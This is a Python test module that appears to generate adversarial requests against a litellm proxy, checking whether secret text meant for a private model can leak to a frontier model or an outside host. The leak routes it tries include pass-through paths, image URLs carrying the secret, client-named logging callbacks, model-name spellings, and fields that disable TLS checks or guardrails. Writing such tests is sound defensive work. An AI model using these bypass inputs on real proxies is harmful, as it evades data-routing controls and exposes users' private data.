"""Ways out besides the main road: other doors, pictures, logs, broken answers, spelling.

Read in the source of litellm 1.106.12: its routes, its pass-through endpoints, what it takes from a
body before a callback is asked, and what it fetches on its own.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any

from tests.litellm_proxy.asking import SECRET, Names, Trick, chat
from tests.litellm_proxy.upstreams import HostState

JSON_TEXT = {"Content-Type": "text/plain"}


def tricks(names: Names) -> Iterator[Trick]:
    """All of them."""
    yield from _paths(names)
    yield from _doors(names)
    yield from _sockets(names)
    yield from _pictures(names)
    yield from _logs(names)
    yield from _forms(names)
    yield from _spellings(names)
    yield from _breaks(names)
    yield from _said(names)


def _paths(names: Names) -> Iterator[Trick]:
    """The alias stands in the path alone, or in the path and another in the body."""
    private, frontier = names.private, names.frontier
    asked = [{"role": "user", "content": SECRET}]
    google = {"contents": [{"role": "user", "parts": [{"text": SECRET}]}]}
    for path, body in (
        (f"/gemini/v1beta/models/{private}:generateContent", google),
        (f"/gemini/v1beta/models/{private}:streamGenerateContent?alt=sse", google),
        (f"/vertex_ai/v1/projects/p/locations/l/publishers/x/models/{private}:rawPredict", google),
        (f"/vertex-ai/publishers/google/models/{private}:generateContent", google),
        (f"/bedrock/model/{private}/converse", {"messages": asked}),
        (f"/azure/openai/deployments/{private}/chat/completions", {"messages": asked}),
        (f"/azure_ai/openai/deployments/{private}/chat/completions", {"messages": asked}),
        (f"/openai/v1/engines/{private}/completions", {"prompt": SECRET}),
        (f"/openai_passthrough/v1/engines/{private}/completions", {"prompt": SECRET}),
        (f"/anthropic/v1/messages?model={private}", {"messages": asked, "max_tokens": 9}),
        (f"/openrouter/v1/chat/completions?model={private}", {"messages": asked}),
        (f"/mistral/v1/chat/completions?model={private}", {"messages": asked}),
        (f"/cohere/v2/chat?model={private}", {"message": SECRET}),
        (f"/cohere/v2/chat?message={SECRET}", {"model": private}),
        (f"/nvidia_nim/v1/chat/completions?model={private}", {"messages": asked}),
        (f"/v1beta/models/{private}:countTokens", google),
        (f"/models/{private}:generateContent", google),
    ):
        yield Trick(kind=f"alias in the path {path.replace(SECRET, 'TEXT')}", path=path, body=body)
    for way in ("engines", "openai/deployments"):
        path = f"/{way}/{frontier}/chat/completions"
        yield Trick(kind=f"{path}, alias in the body", path=path, body=chat(private))
        path = f"/{way}/{frontier}/embeddings"
        body = {"model": private, "input": SECRET}
        yield Trick(kind=f"{path}, alias in the body", path=path, body=body)
    yield Trick(
        kind="model of the query", path=f"/v1/chat/completions?model={frontier}", body=chat(private)
    )
    yield Trick(
        kind="fallbacks of the query",
        path=f"/v1/chat/completions?fallbacks={frontier}&api-version=2024-10-21",
        body=chat(private),
    )


def _doors(names: Names) -> Iterator[Trick]:
    """Doors that a deny-list would forget."""
    private, frontier = names.private, names.frontier
    asked = [{"role": "user", "content": SECRET}]
    back: dict[str, Any] = {"fallbacks": [frontier]}
    request = {"model": private, "messages": asked}
    for path, body in (
        ("/queue/chat/completions", {**request, **back}),
        ("/cursor/chat/completions", {**request, **back}),
        ("/cursor/v0/agents", {"model": private, "prompt": {"text": SECRET}}),
        ("/v1/responses/compact", {"model": private, "input": SECRET, **back}),
        ("/v1/responses/input_tokens", {"model": private, "input": SECRET, **back}),
        ("/openai/v1/responses", {"model": private, "input": SECRET, **back}),
        ("/openai/v1/responses/compact", {"model": private, "input": SECRET, **back}),
        ("/openai/v1/files", {"purpose": "batch", "model": private, "file": SECRET}),
        ("/openai/v1/batches", {"model": private, "metadata": {"text": SECRET}}),
        (
            "/v1/ocr",
            {"model": private, "document": {"type": "document_url", "document_url": SECRET}},
        ),
        ("/utils/transform_request", {"call_type": "completion", "request_body": request}),
        ("/auto_router/test_routing", {"model": private, "prompt": SECRET, "messages": asked}),
        ("/cost/predict-cache", {"model": private, "messages": asked}),
        ("/guardrails/apply_guardrail", {"guardrail_name": "x", "text": SECRET, "model": private}),
        ("/prompts/test", {"dotprompt_content": f"---\nmodel: {private}\n---\n{SECRET}"}),
        ("/v1/memory", {"key": private, "value": SECRET}),
        ("/v1/logs", {"model": private, "text": SECRET}),
        ("/v1/traces", {"model": private, "text": SECRET}),
        ("/v1/a2a/x/message/send", {"model": private, "params": {"message": SECRET}}),
        ("/v1/interactions", {"model": private, "input": SECRET, **back}),
        ("/v1/indexes", {"model": private, "index_name": SECRET}),
        ("/mcp/", {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"x": SECRET}}),
        ("/v1/workflows/runs", {"model": private, "input": SECRET}),
        ("/health/services", {"service": "langfuse", "model": private, "text": SECRET}),
        (
            "/key/generate",
            {"aliases": {private: frontier}, "models": [], "metadata": {"text": SECRET}},
        ),
    ):
        yield Trick(kind=f"door {path}", path=path, body=body)
    for path in (f"/anthropic/v1/models?q={SECRET}", f"/openai/v1/models?q={SECRET}-{private}"):
        yield Trick(kind=f"read {path.replace(SECRET, 'TEXT')}", path=path, method="GET")
    test = {"litellm_params": {"model": private, "messages": asked, **back}, "mode": "chat"}
    yield Trick(kind="a test of the alias with its text", path="/health/test_connection", body=test)
    told = f"litellm:custom_llm_provider:anthropic;model_id:frontier-1;response_id:{private}"
    known = f"resp_{base64.b64encode(told.encode()).decode()}"
    body = {"model": private, "input": SECRET, "previous_response_id": known}
    for state in (HostState.DOWN, HostState.ANSWERS):
        kind = f"previous_response_id of frontier, host {state}"
        yield Trick(kind=kind, path="/v1/responses", body=body, host=state)
    background = {"model": private, "input": SECRET, "background": True, "store": True, **back}
    yield Trick(kind="a response in the background", path="/v1/responses", body=background)


def _sockets(names: Names) -> Iterator[Trick]:
    private, frontier = names.private, names.frontier
    create = {"type": "response.create", "response": {"model": private, "input": SECRET}}
    for path, body in (
        ("/v1/responses", {"type": "response.create", "model": private, "input": SECRET}),
        ("/v1/responses", {**create, "fallbacks": [frontier]}),
        (f"/v1/responses?model={private}", create),
        (f"/v1/responses?model={frontier}", create),
        (f"/v1/realtime?model={private}", create),
        (f"/v1/realtime?model={frontier}", create),
        (f"/openai/v1/realtime?model={private}", create),
        ("/vertex_ai/live", {"setup": {"model": private}, "text": SECRET}),
    ):
        yield Trick(kind=f"WebSocket {path}", path=path, body=body, socket=True)


def _pictures(names: Names) -> Iterator[Trick]:
    """What the proxy or the host would fetch: the address itself can hold words."""
    private = names.private
    address = f"{names.cloud_url}/picture.png?q={SECRET}"
    far = f"http://pictures.example/{SECRET}.png"
    text = {"type": "text", "text": "See:"}
    for path, part in (
        ("/v1/chat/completions", {"type": "image_url", "image_url": address}),
        ("/v1/chat/completions", {"type": "image_url", "image_url": {"url": far, "detail": "low"}}),
        ("/v1/chat/completions", {"type": "file", "file": {"file_id": address}}),
        ("/v1/chat/completions", {"type": "file", "file": {"file_data": address}}),
        ("/v1/chat/completions", {"type": "video_url", "video_url": {"url": address}}),
        ("/v1/chat/completions", {"type": "input_audio", "input_audio": {"data": address}}),
        ("/v1/messages", {"type": "image", "source": {"type": "url", "url": address}}),
        ("/v1/messages", {"type": "document", "source": {"type": "url", "url": far}}),
        ("/v1/responses", {"type": "input_image", "image_url": address}),
        ("/v1/responses", {"type": "input_file", "file_url": far}),
    ):
        content = [{**text, "type": "input_text"} if "responses" in path else text, part]
        asked = [{"role": "user", "content": content}]
        body: dict[str, Any] = {"model": private, "max_tokens": 20}
        body["input" if "responses" in path else "messages"] = asked
        kind = f"to fetch: {part['type']} of {path}, {'far' if far in str(part) else 'near'}"
        yield Trick(kind=kind, path=path, body=body, host=HostState.ANSWERS)


def _logs(names: Names) -> Iterator[Trick]:
    """Callbacks that a client names without an address, which the environment gives."""
    private = names.private
    every = (
        "langsmith",
        "generic_api",
        "openmeter",
        "helicone",
        "lunary",
        "braintrust",
        "athina",
        "logfire",
        "datadog",
        "langfuse",
        "langfuse_otel",
        "arize_phoenix",
        "otel",
        "posthog",
        "sentry",
        "supabase",
        "s3",
        "webhook",
        "argilla",
        "opik",
        "lago",
        "galileo",
    )
    for name in every:
        for state, key in (
            (HostState.ANSWERS, "success_callback"),
            (HostState.DOWN, "failure_callback"),
        ):
            body = chat(private, **{key: [name]})
            yield Trick(kind=f"{key} {name}, host {state}", body=body, host=state)
    for more in (
        {"success_callback": ["langsmith"], "metadata": {"note": SECRET}},
        {"success_callback": ["generic_api"], "metadata": {"note": SECRET}, "user": SECRET},
        {"success_callback": ["langsmith"], "turn_off_message_logging": False},
        {"success_callback": ["langsmith"], "metadata": {"turn_off_message_logging": False}},
        {"success_callback": ["langsmith"], "litellm_metadata": {"langsmith_sampling_rate": 1}},
        {"input_callback": ["langsmith", "sentry"], "log_raw_request_response": True},
        {"metadata": {"logging": [{"callback_name": "langsmith", "callback_type": "success"}]}},
        {"metadata": {"langfuse_host": names.cloud_url, "trace_id": SECRET}},
    ):
        kind = f"logs told by {', '.join(f'{k} {v}' for k, v in more.items())}"
        yield Trick(
            kind=kind.replace(names.cloud_url, "ELSEWHERE"),
            body=chat(private, **more),
            host=HostState.ANSWERS,
        )


def _forms(names: Names) -> Iterator[Trick]:
    private, frontier = names.private, names.frontier
    said = json.dumps([{"role": "user", "content": SECRET}])
    form = {"model": private, "messages": said, "fallbacks": json.dumps([frontier])}
    yield Trick(kind="a form with fallbacks", form=form)
    yield Trick(
        kind="a form of a completion",
        path="/v1/completions",
        form={"model": private, "prompt": SECRET, "fallbacks": frontier},
    )
    body = chat(private, fallbacks=[frontier])
    yield Trick(kind="JSON as plain text", body=body, headers=JSON_TEXT)
    for key in ("metadata", "litellm_metadata", "extra_body", "litellm_params"):
        told = json.dumps({"fallbacks": [frontier], "model_group": frontier})
        yield Trick(kind=f"{key} as text", body=chat(private, **{key: told}))
    file = ("x.wav", SECRET, "audio/wav")
    for path in ("/v1/audio/transcriptions", "/v1/images/edits"):
        parts = {"file": file, "image": file, "prompt": (None, SECRET), "model": (None, private)}
        yield Trick(kind=f"a file for {path}", path=path, files=parts)


def _spellings(names: Names) -> Iterator[Trick]:
    private, frontier = names.private, names.frontier
    wide = "".join(chr(ord(one) + 0xFEE0) if one.isascii() else one for one in private)
    for model in (
        wide,
        private.replace("-", "\u2010"),
        private.replace("-", "_"),
        private.replace("-", " "),
        f"\ufeff{private}",
        f"{private}\x00",
        f"{private}\t,{frontier}",
        f"{private}\u3001{frontier}",
        f",{private},{frontier}",
        f"{private};{frontier}",
        f"langfuse/{private}",
        f"litellm_proxy/{private}",
        f"auto_router/{private}",
        f"responses/{private}",
        f"ollama_chat/{private}",
        f"{private}@frontier",
        f"{private}-thinking",
        "ollama_chat/qwen3:8b",
        "OLLAMA_CHAT/QWEN3:8B",
        "qwen3:8b",
        "ollama_chat/qwen3:8b,frontier",
        "ollama/nomic-embed-text",
    ):
        yield Trick(
            kind=f"spelled {model!r} with fallbacks", body=chat(model, fallbacks=[frontier])
        )
    for model in ({"model": private}, None, 7, True, [private], [[private, frontier]]):
        body = chat(model, fallbacks=[frontier])
        yield Trick(kind=f"model {model!r} with fallbacks", body=body)


def _breaks(names: Names) -> Iterator[Trick]:
    """A host that breaks off in the middle of its answer: some routers go on elsewhere then."""
    private, frontier = names.private, names.frontier
    asked = [{"role": "user", "content": SECRET}]
    for path, body in (
        ("/v1/chat/completions", chat(private)),
        ("/v1/messages", {"model": private, "messages": asked, "max_tokens": 20}),
        ("/v1/responses", {"model": private, "input": SECRET}),
    ):
        for more in ({}, {"fallbacks": [frontier]}):
            for stream in (False, True):
                kind = f"{path}, host {HostState.HALF}{', streamed' if stream else ''}"
                yield Trick(
                    kind=f"{kind}{', with fallbacks' if more else ''}",
                    path=path,
                    body={**body, **more, "stream": stream},
                    host=HostState.HALF,
                )


def _said(names: Names) -> Iterator[Trick]:
    """What else a body may say."""
    private, frontier = names.private, names.frontier
    back: dict[str, Any] = {"fallbacks": [frontier]}
    for more in (
        {"prompt_id": frontier, "prompt_variables": {"x": SECRET}, "prompt_label": "x"},
        {"prompt": {"id": frontier, "variables": {"x": SECRET}}},
        {"guardrails": [{"presidio": {"extra_body": {"api_base": names.cloud_url}}}]},
        {"guardrails": ["presidio"], "guardrail_config": {"api_base": names.cloud_url}},
        {"web_search_options": {"search_context_size": "low"}},
        {"mcp_servers": [{"type": "url", "url": f"{names.cloud_url}/{SECRET}", "name": "x"}]},
        {"container": {"skills": [{"type": "anthropic", "skill_id": SECRET}]}},
        {"context_window_fallback_dict": {private: frontier}, **back},
        {"retry_policy": {"TimeoutErrorRetries": 3}, "model_group_retry_policy": {}, **back},
        {"use_litellm_proxy": True},
        {"cache": {"no-cache": True, "namespace": SECRET}, "caching": True},
        {"models": None, "model_group": frontier},
        {"original_model": frontier, "model_group_alias": {private: frontier}},
        {"weights": {frontier: 1}, "_router_weights": {frontier: 1}},
        {"routing_strategy": "simple-shuffle", "enable_tag_filtering": True, "tags": ["default"]},
        {"headers": {"x-way": "out"}, "proxy": names.cloud_url, "http_proxy": names.cloud_url},
        {"client": "x", "shared_session": "y", "ssl_verify": False, "verify": False},
        {"allowed_model_region": "eu", "region_name": "eu", "input_cost_per_token": 1},
        {"hooks": ["x"], "plugins": ["x"], "rust": True, "harness": "x"},
        {"vector_store_ids": [SECRET], "rag": {"query": SECRET}},
        {"proxy_server_request": {"body": {}}, **back},
        {"proxy_server_request": {"body": {}}, "model_info": {"id": "frontier-1"}},
        {
            "litellm_logging_obj": {"x": SECRET},
            "user_api_key_dict": {"aliases": {private: frontier}},
        },
        {"secret_fields": {}, "disable_global_guardrails": True, **back},
    ):
        yield Trick(kind=f"said {', '.join(more)}", body=chat(private, **more))
        if "fallbacks" not in more:
            kind = f"said {', '.join(more)}, host answers"
            yield Trick(kind=kind, body=chat(private, **more), host=HostState.ANSWERS)
